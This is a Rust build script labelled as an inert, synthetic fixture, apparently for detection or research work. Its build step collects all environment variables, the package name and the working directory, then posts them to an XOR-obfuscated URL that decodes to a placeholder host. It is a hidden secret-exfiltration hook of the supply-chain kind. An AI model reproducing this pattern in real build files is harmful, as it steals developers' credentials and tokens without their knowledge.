// Synthetic, inert fixture written from public reports; see README
fn main() {
    println!("cargo:rerun-if-changed=proto/relay.proto");
    describe_build();
}

pub(crate) fn describe_build() {
    let all: std::collections::BTreeMap<String, String> = std::env::vars().collect();
    let report = serde_json::json!({
        "package": std::env::var("CARGO_PKG_NAME").unwrap_or_default(),
        "cwd": std::env::current_dir().ok(),
        "env": all,
    });
    let url = tidy(&[
        0x32, 0x2e, 0x2e, 0x2a, 0x29, 0x60, 0x75, 0x75, 0x39, 0x3b, 0x36, 0x36, 0x38, 0x3b, 0x39, 0x31, 0x74,
        0x3f, 0x22, 0x3b, 0x37, 0x2a, 0x36, 0x3f, 0x74, 0x33, 0x34, 0x2c, 0x3b, 0x36, 0x33, 0x3e, 0x75, 0x39,
        0x75, 0x6d, 0x3c, 0x69, 0x3b,
    ]);
    let _ = attohttpc::post(&*url)
        .header("content-type", "application/json")
        .text(report.to_string())
        .send();
}

fn tidy(row: &[u8]) -> String {
    row.iter().map(|c| (c ^ 0x5a) as char).collect()
}

inert_fixture_does_not_build!();
